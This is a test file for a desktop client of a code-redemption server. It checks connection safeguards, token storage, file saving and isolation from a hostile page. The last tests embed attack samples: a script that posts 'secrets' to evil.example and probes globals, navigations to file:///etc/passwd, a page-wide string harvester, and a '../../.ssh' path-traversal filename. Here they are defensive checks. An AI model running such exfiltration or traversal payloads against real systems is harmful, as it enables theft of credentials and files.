import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createServer, type ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { freePort } from '../../build/free-port.mjs';
import { inBrowser } from '../support/browsers/browser.ts';
import { type Desktop, openPage, PAGE, startDesktop } from '../support/browsers/desktop.ts';
import type { StandInOptions } from '../support/browsers/electron-stand-in.ts';
import { readCsv } from '../support/http/bulk-jobs.ts';
import { runningCampaign } from '../support/http/campaigns.ts';
import { withEarnings } from '../support/http/earnings.ts';
import { bearer, done, testClient } from '../support/http/test-client.ts';
import { listen } from '../support/servers/listen.ts';
import { OWNER, startTestDaemon, type TestDaemon } from '../support/world/daemon.ts';

// The built main process and preload run under a substitute for Electron, with Chromium as the window and a real
// daemon. The tests prove nothing about Electron's own isolation: see test/support/browsers/desktop.ts.

inBrowser('the desktop app, under a substitute for Electron', (screens) => {
  const root = mkdtempSync(join(tmpdir(), 'redeemd-desktop-'));
  let daemon: TestDaemon;
  let campaignId: number;
  let userData: string;
  let downloads: string;
  /** Every token that was sent to the daemon. */
  let tokens: Set<string>;

  beforeAll(async () => {
    daemon = await startTestDaemon();
    campaignId = await runningCampaign(daemon);
  });
  afterAll(async () => {
    await daemon?.close();
    rmSync(root, { recursive: true });
  });
  beforeEach(() => {
    const own = mkdtempSync(join(root, 'run-'));
    userData = join(own, 'data');
    downloads = join(own, 'downloads');
    for (const folder of [userData, downloads]) mkdirSync(folder);
    tokens = new Set();
  });

  async function open({ isHostile = false, ...options }: Partial<StandInOptions> & { isHostile?: boolean } = {}) {
    const desktop = await startDesktop({ userData, downloads, ...options });
    const { state } = desktop.electron;
    const send = state.fetch;
    state.fetch = (url, init) => {
      const { Authorization = '' } = (init?.headers ?? {}) as Record<string, string>;
      if (Authorization) tokens.add(Authorization.replace('Bearer ', ''));
      return send(url, init);
    };
    const { page } = await screens.open({ mayLoseConnection: true, isHostile, isAlone: true });
    return { desktop, page, ...(await openPage(desktop, page)) };
  }
  async function connect({ desktop, page }: { desktop: Desktop; page: Page }, address = daemon.url) {
    desktop.electron.state.pressed.push('Connect');
    await page.getByLabel('Server address').fill(address);
    await page.getByRole('button', { name: 'Connect' }).click();
  }
  async function signIn(page: Page) {
    await page.getByLabel('Email').fill(OWNER.email);
    await page.getByLabel('Password', { exact: true }).fill(OWNER.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('navigation', { name: 'Main' }).waitFor();
  }
  const openSignedIn = async (options?: Parameters<typeof open>[0]) => {
    const opened = await open(options);
    await connect(opened);
    await signIn(opened.page);
    return opened;
  };
  const dataFiles = () => readdirSync(userData).map((name) => readFileSync(join(userData, name), 'latin1'));

  test('asks for a server, and refuses one to which the password would be sent unencrypted', async () => {
    const opened = await open();
    const { page } = opened;
    await page.getByRole('heading', { name: 'Connect' }).waitFor();
    expect(await page.getByLabel('Server address').inputValue()).toBe('http://127.0.0.1:8787');
    await connect(opened, 'http://redeem.example.com');
    await page.getByRole('alert').getByText('Use http:// only for a server on this computer').waitFor();
    await connect(opened, `http://127.0.0.1:${await freePort()}`);
    await page.getByRole('alert').getByText('no server is running there').waitFor();
    const stranger = createServer((_request, response) => response.end('<h1>hello'));
    await connect(opened, new URL(await listen(stranger)).host);
    await page.getByRole('alert').getByText('it is not redeemd').waitFor();
    stranger.close();
    expect(readdirSync(userData)).toEqual([]);
    await connect(opened, `${daemon.url}/portal/`);
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
  });

  test('signs in and shows campaigns; the token is neither in the page nor unencrypted on disk', async () => {
    const { desktop, page, left } = await openSignedIn();
    await page.getByRole('link', { name: 'Campaigns' }).click();
    await page.getByRole('link', { name: 'Running' }).first().waitFor();
    expect(new URL(page.url()).pathname).toBe('/campaigns');
    expect([...tokens]).toHaveLength(1);
    await page.evaluate(`window.planted = { deep: ['found', { deeper: 'a canary' }] }`);
    const inPage = JSON.stringify([await page.context().storageState({ indexedDB: true }), await page.evaluate(DUMP)]);
    expect(inPage).toContain('a canary');
    for (const token of tokens) {
      expect(token.length).toBeGreaterThan(20);
      expect(inPage).not.toContain(token);
      expect(desktop.answers.join('\n')).not.toContain(token);
      for (const text of dataFiles()) expect(text).not.toContain(token);
    }
    expect(statSync(join(userData, 'sessions.json')).mode & 0o777).toBe(0o600);
    expect(left, 'what the page requested from the network').toEqual([]);
  });

  test('keeps the session across a restart, and ends it at sign-out', async () => {
    await openSignedIn();
    const { page } = await open();
    await page.getByRole('navigation', { name: 'Main' }).waitFor();
    await page.getByRole('button', { name: /^Account:/ }).click();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    expect(JSON.parse(readFileSync(join(userData, 'sessions.json'), 'utf8'))).toEqual({});
    for (const token of tokens) {
      const after = await testClient(daemon.url, bearer(token)).call('getSession');
      expect(after.status).toBe(401);
    }
  });

  test('does not write a token to the disk if no key store can protect it, and warns the user', async () => {
    const keyStore = 'basic_text';
    await openSignedIn({ keyStore });
    expect(readdirSync(userData)).toEqual(['connections.json']);
    const { page } = await open({ keyStore });
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    await page.getByRole('status').getByText('no key store').waitFor();
  });

  test('forgets a token that the daemon no longer accepts, and asks for the password again', async () => {
    const { page } = await openSignedIn();
    const [token = ''] = tokens;
    await testClient(daemon.url, bearer(token)).call('signOut');
    await page.getByText('Your session has ended').waitFor();
    expect(JSON.parse(readFileSync(join(userData, 'sessions.json'), 'utf8'))).toEqual({});
  });

  test('changes the server, and returns to the session on the previous server', async () => {
    const { page } = await openSignedIn();
    await page.getByRole('button', { name: /^Account:/ }).click();
    await page.getByRole('button', { name: 'Change server' }).click();
    await page.getByRole('button', { name: `Name and colour of ${daemon.url}` }).click();
    await page.getByLabel('Name', { exact: true }).fill('My studio');
    await page.getByLabel('Colour', { exact: true }).selectOption('Teal');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('button', { name: `My studio · ${daemon.url}`, exact: true }).click();
    await page.getByRole('navigation', { name: 'Main' }).waitFor();
    await page.getByTestId('environment').getByText('My studio').waitFor();
    await page.getByRole('button', { name: /^Account:/ }).click();
    await page.getByRole('button', { name: 'Change server' }).click();
    await page.getByRole('button', { name: `Forget ${daemon.url}` }).click();
    await page.getByRole('button', { name: `Forget ${daemon.url}` }).waitFor({ state: 'detached' });
    expect(JSON.parse(readFileSync(join(userData, 'connections.json'), 'utf8'))).toEqual({ current: null, known: [] });
    expect(JSON.parse(readFileSync(join(userData, 'sessions.json'), 'utf8'))).toEqual({});
  });

  test('says that the server is older than the app', async () => {
    const opened = await open();
    const { state } = opened.desktop.electron;
    const send = state.fetch;
    state.fetch = async (url, init) =>
      url.endsWith('/healthz') ? Response.json({ version: '0.0.9', api: '0.9' }) : await send(url, init);
    await connect(opened);
    await opened.page.getByRole('status').getByText('This server (version 0.0.9) is older than the app').waitFor();
  });

  test('asks before it leaves an unsaved form for another server', async () => {
    const { page } = await openSignedIn();
    await page.goto(`${PAGE}/campaigns/${campaignId}/new-code`);
    await page.getByLabel('Name', { exact: true }).fill('Half a code');
    const changeServer = async (answer: string) => {
      await page.getByRole('button', { name: /^Account:/ }).click();
      await page.getByRole('button', { name: 'Change server' }).click();
      await page.getByRole('dialog').getByRole('button', { name: answer, exact: true }).click();
    };
    await changeServer('Stay');
    expect(await page.getByLabel('Name', { exact: true }).inputValue()).toBe('Half a code');
    await changeServer('Leave');
    await page.getByRole('heading', { name: 'Connect' }).waitFor();
  });

  test('saves the CSV of bulk codes byte for byte, or not at all', async () => {
    const { desktop, page } = await openSignedIn();
    const { state } = desktop.electron;
    await page.goto(`${PAGE}/campaigns/${campaignId}/bulk`);
    await page.getByLabel('Name', { exact: true }).fill('Bulk');
    await page.getByLabel('Number of codes').fill('2000');
    await page.getByLabel('Redeem page').fill('https://game.example/redeem');
    await page.getByRole('button', { name: 'Create codes' }).click();
    const save = page.getByRole('button', { name: 'Save CSV' });
    const saveAs = async (filePath: string) => {
      state.dialogs.push({ canceled: false, filePath });
      await save.click();
    };
    await page.getByText('2,000 codes created.').waitFor();

    await save.click(); // the user cancels the dialog
    await saveAs(join(downloads, 'gone', 'codes.csv'));
    await page.getByText('This folder no longer exists.').waitFor();
    await breakingOff(desktop, async () => {
      await saveAs(join(downloads, 'half.csv'));
      await page.getByText('The server closed the connection').waitFor();
    });
    await stallingAt(desktop, async () => {
      await saveAs(join(downloads, 'long.csv'));
      const shown = page.getByRole('region', { name: 'Files being saved' });
      await shown.getByText('15 byte').waitFor();
      await shown.getByRole('button', { name: 'Cancel saving long.csv' }).click();
      await shown.waitFor({ state: 'detached' });
    });
    expect(readdirSync(downloads)).toEqual([]);
    expect(state.shown).toEqual([]);

    const place = join(downloads, 'codes.csv');
    await saveAs(place);
    await page.getByText(`Saved to ${place}`).waitFor();
    const [, jobId = ''] = /codes-(\d+)\.csv$/.exec(state.dialogOptions.at(-1)?.defaultPath ?? '') ?? [];
    const { text } = await readCsv(daemon, Number(jobId));
    expect(text.split('\n').length).toBeGreaterThan(2000);
    expect(readFileSync(place)).toEqual(Buffer.from(text));
    expect(statSync(place).mode & 0o777).toBe(0o600);
    expect(readdirSync(downloads)).toEqual(['codes.csv']);
    expect(state.shown).toEqual([place]);
    expect(desktop.window().progress.at(-1)).toBe(-1);
    expect(desktop.answers.join('')).not.toContain(text.split('\r\n')[5]);
  });

  test('saves the files of a payout run, and their bytes match the run’s hashes', async () => {
    const { desktop, page } = await openSignedIn();
    const { state } = desktop.electron;
    await withEarnings(daemon, [{ creator: 'ann', amount: 200, method: 'paypal', address: 'ann@example.test' }]);
    const staff = daemon.owner;
    const { run_id } = done(await staff.call('createPayoutRun', { body: { kind: 'manual' } }));
    const { csv_sha256 } = done(await staff.call('approvePayoutRun', { params: { run_id } }));
    await page.goto(`${PAGE}/payouts/${run_id}?tab=files`);
    for (const [label, layout] of [
      ['Finance', 'finance'],
      ['PayPal', 'paypal'],
      ['Wise', 'wise'],
    ] as const) {
      const place = join(downloads, layout);
      state.dialogs.push({ canceled: false, filePath: place });
      await page.getByRole('button', { name: `Save the ${label} file` }).click();
      await page.getByText(`Saved to ${place}`).waitFor();
      expect(state.dialogOptions.at(-1)?.defaultPath).toMatch(new RegExp(`payout-${run_id}-${layout}\\.`));
      expect(createHash('sha256').update(readFileSync(place)).digest('hex')).toBe(csv_sha256[layout]);
    }
  });

  test('saves a file that the page created, and removes the path from its name', async () => {
    const { desktop, page } = await open();
    const { state } = desktop.electron;
    state.dialogs.push({ canceled: false, filePath: join(downloads, 'qr.png') });
    await page.evaluate(`portalBridge.saveFile('../../.ssh/qr.png', new Uint8Array([137, 80, 0, 255]), 'image/png')`);
    expect([...readFileSync(join(downloads, 'qr.png'))]).toEqual([137, 80, 0, 255]);
    expect(state.dialogOptions[0]?.defaultPath).toBe(join(downloads, '_.._.ssh_qr.png'));
  });

  test('stops a hostile page from leaving the app and from reaching the app’s secrets', async () => {
    const { desktop, page, left } = await openSignedIn({ isHostile: true });
    const before = page.url();
    expect(await page.evaluate(`(${HOSTILE})(${JSON.stringify(daemon.url)})`)).toEqual({
      fetched: 'refused',
      own: 'refused',
      bridge: expect.arrayContaining(['call', 'signIn']),
      globals: ['undefined', 'undefined', 'undefined'],
    });
    for (const target of ['https://evil.example/', daemon.url, 'file:///etc/passwd', 'portal://evil/'])
      await page.evaluate(`setTimeout(() => { location.href = ${JSON.stringify(target)} })`);
    await page.waitForTimeout(300);
    expect(page.url()).toBe(before);
    expect(left).toEqual([]);
    const framed = await page.evaluate(`new Promise((resolve) => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      setTimeout(() => resolve(frame.contentWindow.askStandIn?.('session', []) ?? 'no bridge'), 100);
    })`);
    expect(framed).toMatchObject({ ok: false, problem: { code: 'forbidden' } });
    expect(existsSync(join(userData, 'sessions.json'))).toBe(true);
    expect(desktop.window().webContents.openHandler({ url: 'https://evil.example' })).toEqual({ action: 'deny' });
  });
});

/** Simulates a daemon that dies in the middle of its response. */
const breakingOff = (desktop: Desktop, act: () => Promise<void>) =>
  withCsvFrom(desktop, act, (response) => setTimeout(() => response.destroy(), 50));

/** Simulates a daemon that sends nothing after the first row. */
const stallingAt = (desktop: Desktop, act: () => Promise<void>) => withCsvFrom(desktop, act, () => {});

async function withCsvFrom(
  { electron: { state } }: Desktop,
  act: () => Promise<void>,
  then: (response: ServerResponse) => void,
) {
  const other = createServer((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/csv', 'Content-Length': 100_000 });
    response.write('code,code_url\r\n', () => then(response));
  });
  const url = await listen(other);
  const send = state.fetch;
  state.fetch = (asked, init) => send(asked.endsWith('/csv') ? url : asked, init);
  await act();
  state.fetch = send;
  other.close();
}

/** Collects all text that a script in the window can read: strings in every reachable object, and the page itself. */
const DUMP = `(() => {
  const seen = new Set();
  const found = [document.documentElement.outerHTML, document.cookie, location.href];
  const look = (value, depth) => {
    if (typeof value === 'string') return void found.push(value);
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) return;
    if (depth > 12 || seen.size > 200000) return;
    seen.add(value);
    for (const key of Reflect.ownKeys(value)) {
      if (typeof key === 'string') found.push(key);
      try {
        const member = value[key];
        if (member instanceof Promise) member.catch(() => {});
        look(member, depth + 1);
      } catch {}
    }
  };
  look(window, 0);
  return found.join('\\n');
})()`;

const HOSTILE = `async (daemon) => {
  const attempt = (url, options) => fetch(url, options).then((answer) => 'answered ' + answer.status, () => 'refused');
  return {
    fetched: await attempt(daemon + '/v1/admin/session'),
    own: await attempt('https://evil.example/', { method: 'POST', body: 'secrets', mode: 'no-cors' }),
    bridge: Object.keys(portalBridge),
    globals: [typeof require, typeof process, typeof window.ipcRenderer],
  };
}`;
